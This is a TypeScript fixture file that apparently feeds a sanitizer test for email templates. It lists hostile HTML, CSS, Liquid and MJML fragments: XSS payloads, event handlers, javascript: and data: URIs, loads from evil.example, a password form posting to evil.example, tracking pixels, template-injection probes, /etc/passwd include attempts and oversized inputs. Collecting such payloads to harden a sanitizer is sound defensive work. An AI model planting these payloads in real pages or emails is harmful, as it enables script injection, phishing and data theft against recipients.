/** What a hostile answer carries: a fragment of html that must not leave as it is. */
const scripts = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<SCRIPT>alert(1)//",
  "<scr<script>ipt>alert(1)</script>",
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
  "<style><script>alert(1)</script></style>",
  "<title><img src=x onerror=alert(1)></title>",
  "<plaintext><script>alert(1)",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example/></iframe>",
  "<object data=https://evil.example/></object>",
  "<embed src=https://evil.example/>",
  "<applet code=x></applet>",
  "<frameset><frame src=https://evil.example/></frameset>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=password></form>",
  "<input type=image src=https://evil.example/x>",
  "<button formaction=https://evil.example/>x</button>",
  "<video src=https://evil.example/x autoplay></video>",
  "<audio src=https://evil.example/x></audio>",
  "<picture><source srcset=https://evil.example/x><img src=x></picture>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<details open ontoggle=alert(1)>x</details>",
  "<custom-element onclick=alert(1)>x</custom-element>",
];

const handlers = [
  "onclick",
  "onerror",
  "onload",
  "onmouseover",
  "onfocus",
  "ONCLICK",
  "onanimationstart",
  "oncopy",
].flatMap((name) => [
  `<p ${name}="alert(1)">x</p>`,
  `<img src="https://shop.example/a.png" ${name}=alert(1)>`,
]);

const schemes = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
  ],
  ...[
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "\u0001javascript:alert(1)",
    "vbscript:msgbox(1)",
  ],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://evil.example/x",
  ],
  ...[
    "file:///etc/passwd",
    "ftp://evil.example/",
    "view-source:https://evil.example/",
    "about:blank",
    "ws://evil.example/",
  ],
].flatMap((url) => [`<a href="${url}">x</a>`, `<img src="${url}" alt="x">`]);

const links = [
  ...[
    "https://bank.example/login",
    "http://evil.example",
    "//evil.example/x",
    "/\\evil.example",
    "https:evil.example",
  ],
  ...[
    "https://shop.example@evil.example/",
    "https://shop.example.evil.example/",
    "https://evil.example/?https://shop.example/",
  ],
  ...[
    "https://shop.example:8443/",
    "https://xn--shp-sna.example/",
    "mailto:evil@evil.example",
    "tel:+100",
    "sms:+100",
  ],
  ...[
    "/relative",
    "#anchor",
    "?query",
    "https://user:secret@shop.example/",
    "intent://evil.example#Intent;end",
  ],
].map((url) => `<a href="${url}">Confirm your account</a>`);

const images = [
  `<img src="https://tracker.example/p.gif" alt="">`,
  `<img src="https://shop.example/p.gif" width="1" height="1">`,
  `<img src="https://shop.example/p.gif" style="width:1px;height:1px">`,
  `<img src="https://shop.example/p.gif" style="display:none">`,
  `<img src="https://shop.example/p.gif" width="0">`,
  `<img src="https://shop.example/p.gif" height=" 01px ">`,
  `<img srcset="https://evil.example/x 2x" src="https://shop.example/a.png">`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src="data:image/png;base64,${"A".repeat(20_000)}">`,
  `<img lowsrc=https://evil.example/x dynsrc=https://evil.example/x src=https://shop.example/a.png>`,
  `<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>`,
];

const styles = [
  ...[
    "background:url(https://evil.example/x)",
    "background-image:url('https://evil.example/x')",
    "@import 'https://evil.example/x.css'",
  ],
  ...[
    "width:expression(alert(1))",
    "behavior:url(x.htc)",
    "-moz-binding:url(x.xml#a)",
    "background:\\75rl(https://evil.example/x)",
  ],
  ...[
    "background:u/**/rl(https://evil.example/x)",
    "list-style:url(https://evil.example/x)",
    "content:url(https://evil.example/x)",
  ],
  ...[
    "cursor:url(https://evil.example/x),auto",
    "background:image-set('https://evil.example/x' 1x)",
    "position:fixed;top:0;left:0",
  ],
  ...[
    "border-image:url(https://evil.example/x)",
    "filter:url(https://evil.example/x#f)",
    "color:{{ name }}",
    "--x:url(https://evil.example/x)",
  ],
].map((style) => `<p style="${style}">x</p>`);

const sheets = [
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style>body{background:url(https://evil.example/x)}</style>",
  "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
  "<style>a[href^='x']{background:url(https://evil.example/x)}</style>",
];

const comments = [
  "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
  "<!--[if gte mso 9]><xml><o:OLEObject href=https://evil.example/></xml><![endif]-->",
  "<!--[if !mso]><!--><script>alert(1)</script><!--<![endif]-->",
  "<!-- --!><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><?php echo 1 ?>",
];

const liquid = [
  ...[
    '{% include "secrets" %}',
    "{% render 'x' %}",
    "{% layout 'x' %}",
    "{% block x %}{% endblock %}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
  ],
  ...[
    "{{ constructor }}",
    "{{ name.constructor }}",
    "{{ name.__proto__ }}",
    "{{ name['constructor'] }}",
    "{{ undeclared }}",
    "{{ secrets.key }}",
  ],
  ...[
    "{{ '<script>alert(1)</script>' }}",
    "{{ name | raw }}",
    "{{ name | append: '<script>alert(1)</script>' }}",
    "{% for i in (1..999999999) %}x{% endfor %}",
  ],
  ...[
    "{% assign x = name %}{{ x }}",
    "{% capture x %}<script>{% endcapture %}{{ x }}",
    "{% comment %}{% endcomment %}",
    "{% liquid echo name %}",
  ],
  ...[
    "<{% if name %}{% endif %}script>alert(1)</script>",
    "<p {% if name %}onclick=alert(1){% endif %}>x</p>",
    "{{ name",
    "{% if name %}x",
  ],
  ...[
    `<a href="{{ 'javascript:alert(1)' }}">x</a>`,
    `<a href="{{ name | default: 'javascript:alert(1)' }}">x</a>`,
  ],
  ...[
    `<a href="java{% if name %}{% endif %}script:alert(1)">x</a>`,
    `<a href="https://{{ name }}/x">x</a>`,
    `<a href="{{ name }}:alert(1)">x</a>`,
  ],
  ...[
    `<p title="{{ name | default: ' onclick=alert(1) ' }}">x</p>`,
    `<img src="https://shop.example/a.png" alt='{{ name | default: "x" onerror=alert(1) }}'>`,
  ],
];

/** MJML around or beside the content. */
export const hostileMjml = [
  "<mj-raw><script>alert(1)</script></mj-raw>",
  '<mj-include path="/etc/passwd" />',
  '<mj-include path="https://evil.example/x.mjml" type="html" />',
  '<mj-wrapper><mj-raw><mj-include path="x"/></mj-raw></mj-wrapper>',
  '<mj-section background-url="https://evil.example/x"><mj-column><mj-text>x</mj-text></mj-column></mj-section>',
  '<mj-hero background-url="https://evil.example/x"><mj-text>x</mj-text></mj-hero>',
  '<mj-section><mj-column><mj-social><mj-social-element name="facebook" href="https://evil.example/">x</mj-social-element></mj-social></mj-column></mj-section>',
  '<mj-section><mj-column><mj-carousel><mj-carousel-image src="https://evil.example/x" /></mj-carousel></mj-column></mj-section>',
  '<mj-section><mj-column><mj-image src="https://tracker.example/p.gif" width="1px" /></mj-column></mj-section>',
  '<mj-section><mj-column><mj-image src="https://shop.example/a.png" usemap="#x" /></mj-column></mj-section>',
  '<mj-section><mj-column><mj-button href="javascript:alert(1)">x</mj-button></mj-column></mj-section>',
  '<mj-section css-class="x&quot; onclick=&quot;alert(1)"><mj-column><mj-text>x</mj-text></mj-column></mj-section>',
  '<mj-section><mj-column><mj-text color="red;background:url(https://evil.example/x)">x</mj-text></mj-column></mj-section>',
  '<mj-section><mj-column><mj-text font-family="x&quot;><script>alert(1)</script>">x</mj-text></mj-column></mj-section>',
  '<mj-section><mj-column><mj-table><tr onclick="alert(1)"><td background="https://evil.example/x">x</td></tr></mj-table></mj-column></mj-section>',
];

export const hostileHead = [
  "<mj-style>@import url(https://evil.example/x.css);</mj-style>",
  '<mj-style inline="inline">p{background:url(https://evil.example/x)}</mj-style>',
  '<mj-font name="x" href="https://evil.example/x.css" />',
  '<mj-html-attributes><mj-selector path="p"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes>',
  '<mj-raw><meta http-equiv="refresh" content="0;url=https://evil.example/" /></mj-raw>',
  "<mj-preview><script>alert(1)</script></mj-preview>",
  "<mj-title></title><script>alert(1)</script></mj-title>",
  '<mj-attributes><mj-all background-url="https://evil.example/x" /><mj-text color="{{ name }}" /></mj-attributes>',
];

/** Fragments of html, with declared variable `name` and the named host `shop.example`. */
export const hostileFragments: readonly string[] = [
  ...[...scripts, ...handlers, ...schemes, ...links, ...images, ...styles, ...sheets, ...comments, ...liquid],
  ...[
    "<p>".repeat(3000),
    "<div>".repeat(20_000),
    "<".repeat(150_000),
    "{{ name }}".repeat(5000),
    "{{".repeat(50_000),
    "<p>x",
    "</td></tr></table></body></html><script>alert(1)</script>",
  ],
];
